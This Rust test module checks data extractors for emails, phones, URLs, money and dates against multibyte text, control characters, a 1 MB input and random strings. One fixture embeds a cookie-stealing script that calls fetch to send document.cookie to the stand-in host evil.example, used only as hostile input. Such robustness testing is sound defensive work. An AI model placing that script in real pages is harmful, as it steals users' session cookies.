//! Tests across every extractor: dispatch by field kind, exact spans in multi-byte text,
//! and hostile input (HTML and scripts, control characters, emoji, right-to-left text, a
//! 1 MB field, random strings) that must never panic nor take long.

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

const KINDS: [FieldKind; 6] = [
    FieldKind::Email,
    FieldKind::Phone,
    FieldKind::Url,
    FieldKind::Money,
    FieldKind::Date,
    FieldKind::Number,
];

fn all_options() -> [PatternOptions; 3] {
    [
        PatternOptions::default(),
        PatternOptions {
            default_region: Some("US".into()),
            date_order: DateOrder::Mdy,
        },
        PatternOptions {
            default_region: Some("MY".into()),
            date_order: DateOrder::Ymd,
        },
    ]
}

/// Every match of every kind is in text order, has a span on char boundaries whose text is
/// not empty, and a confidence in [0, 1].
fn check_all(text: &str) {
    for opts in all_options() {
        for kind in KINDS {
            let found = find(kind, text, &opts);
            for m in &found {
                assert!(
                    m.span.slice(text).is_some_and(|s| !s.is_empty()),
                    "{kind}: bad span {:?}",
                    m.span
                );
                assert!(
                    (0.0..=1.0).contains(&m.confidence),
                    "{kind}: confidence {}",
                    m.confidence
                );
            }
            assert!(
                found.windows(2).all(|w| w[0].span.start <= w[1].span.start),
                "{kind}: out of order"
            );
        }
    }
    for pair in label::find_pairs(text) {
        assert!(pair.label_span.slice(text).is_some() && pair.value.span.slice(text).is_some());
    }
    let _ = label_value(text, &["total", "invoice no"]);
}

#[test]
fn find_dispatches_by_kind() {
    let text =
        "Mail ops@acme.io, call +44 20 7946 0958, see https://acme.io, pay €12,50 by 5 March 2024 (qty 3).";
    let opts = PatternOptions::default();
    let first = |kind| find(kind, text, &opts).into_iter().next().map(|m| m.value);
    assert_eq!(first(FieldKind::Email).as_deref(), Some("ops@acme.io"));
    assert_eq!(first(FieldKind::Phone).as_deref(), Some("+442079460958"));
    assert_eq!(first(FieldKind::Url).as_deref(), Some("https://acme.io"));
    assert_eq!(first(FieldKind::Money).as_deref(), Some("12.50 EUR"));
    assert_eq!(first(FieldKind::Date).as_deref(), Some("2024-03-05"));
    assert_eq!(first(FieldKind::Number).as_deref(), Some("44"));
    for kind in [FieldKind::Text, FieldKind::MultilineText, FieldKind::Identifier] {
        assert!(find(kind, text, &opts).is_empty());
    }
    assert_eq!(
        label_value("Total: €12,50", &["total"])
            .map(|m| m.value)
            .as_deref(),
        Some("€12,50")
    );
}

#[test]
fn options_default_to_day_first_and_no_region() {
    let opts = PatternOptions::default();
    assert_eq!((opts.default_region, opts.date_order), (None, DateOrder::Dmy));
}

#[test]
fn multibyte_spans_are_exact() {
    let text = "Café — 5 €";
    let found = find(FieldKind::Money, text, &PatternOptions::default());
    assert_eq!(found.len(), 1);
    assert_eq!(&text[found[0].span.start..found[0].span.end], "5 €");
    assert_eq!(found[0].value, "5 EUR");
    check_all(text);
}

#[test]
fn html_and_scripts_are_only_text() {
    let text = r#"<html><body><script>var a="x@evil.com";fetch('https://evil.example/steal?c='+document.cookie)</script>
<p onclick="alert(1)">Total: <b>$1,234.56</b> due 2024-03-05</p><!-- +1 415 555 2671 --></body></html>"#;
    let opts = PatternOptions {
        default_region: Some("US".into()),
        ..Default::default()
    };
    let values = |kind| {
        find(kind, text, &opts)
            .into_iter()
            .map(|m| m.value)
            .collect::<Vec<_>>()
    };
    assert_eq!(values(FieldKind::Email), ["x@evil.com"]);
    assert_eq!(values(FieldKind::Url), ["https://evil.example/steal?c="]);
    assert_eq!(values(FieldKind::Money), ["1234.56 USD"]);
    assert_eq!(values(FieldKind::Date), ["2024-03-05"]);
    assert_eq!(values(FieldKind::Phone), ["+14155552671"]);
    // Tags inside a value stay in it: the label reader strips them only around a value.
    let total = label_value(text, &["total"]).map(|m| m.value).unwrap_or_default();
    assert!(total.starts_with("$1,234.56"), "{total}");
    let cell = "<tr><th>Total:</th><td>$1,234.56</td></tr>";
    assert_eq!(
        label_value(cell, &["total"]).map(|m| m.value).as_deref(),
        Some("$1,234.56")
    );
    check_all(text);
}

#[test]
fn control_characters_emoji_and_right_to_left_text() {
    let text = "\u{0}\u{1b}[31mTotal:\u{7}\u{feff} €5\r\n\u{202e}مرحبا ops@acme.io 🙂👨‍👩‍👧 05/03/2024\u{200f} +971 4 234 5678 שלום";
    check_all(text);
    let opts = PatternOptions::default();
    assert_eq!(find(FieldKind::Email, text, &opts)[0].value, "ops@acme.io");
    assert_eq!(find(FieldKind::Date, text, &opts)[0].value, "2024-03-05");
    assert_eq!(find(FieldKind::Money, text, &opts)[0].value, "5 EUR");
    assert_eq!(find(FieldKind::Phone, text, &opts)[0].value, "+97142345678");
    // Only ASCII digits are digits here: Arabic-Indic or full-width ones are not misread as
    // zeros, and a value in them is "not a date" rather than "month 0".
    let eastern = "٠٥/٠٣/٢٠٢٤ ١٢٣٤ ０５/０３/２０２４";
    for kind in KINDS {
        assert!(find(kind, eastern, &opts).is_empty(), "{kind}");
    }
    assert!(matches!(
        parse_date("٠٥/٠٣/٢٠٢٤", DateOrder::Dmy),
        Err(NormalizeError::NotADate { .. })
    ));
}

/// A 1 MB field: realistic text repeated, and for each extractor a worst case (runs of the
/// characters its regex keys on). The bound is loose on purpose: a debug build on shared
/// cores measures nothing precisely (speed is for benchmarks), but super-linear work on
/// 1 MB would take hours, not seconds.
#[test]
fn a_megabyte_field_stays_linear() {
    const MB: usize = 1 << 20;
    let fill = |unit: &str| unit.repeat(MB / unit.len() + 1);
    let inputs = [
        fill(
            "Invoice No: 123  Date: 05/03/2024\nCall +1 415 555 2671 or mail a.b@c.io, see www.x.io/a; pay $1,234.56.\n",
        ),
        fill("1 2 3 4 5 6 7 8 9 0 "),
        fill("12 34 56 78 90 12 34 "),
        fill("1,234,"),
        fill("a@b."),
        fill("http://"),
        fill("  :  -  =  "),
        fill("<td>"),
        fill("Mar 5 "),
        fill("é🙂\u{202e}"),
        fill("$1 "),
        fill("1/1/24 "),
        fill("a:\n"),
    ];
    let opts = PatternOptions {
        default_region: Some("US".into()),
        ..Default::default()
    };
    for text in &inputs {
        let started = Instant::now();
        for kind in KINDS {
            let _ = find(kind, text, &opts);
        }
        let _ = label::find_pairs(text);
        let _ = label_value(text, &["total"]);
        let elapsed = started.elapsed();
        let head: String = text.chars().take(20).collect();
        assert!(elapsed < Duration::from_secs(30), "{head:?}... took {elapsed:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    #[test]
    fn random_text_never_panics(text in "\\PC{0,80}") {
        check_all(&text);
    }

    #[test]
    fn random_value_like_text_never_panics(text in "[0-9 .,:/+()$€£RMUSDEa-z@#\\-\n\t]{0,60}") {
        check_all(&text);
        let _ = parse_date(&text, DateOrder::Mdy);
        let _ = parse_money(&text);
        let _ = phone::parse_phone(&text, Some("GB"));
        let _ = email::parse_email(&text);
        let _ = url::parse_url(&text);
        let _ = number::parse_number(&text);
    }
}
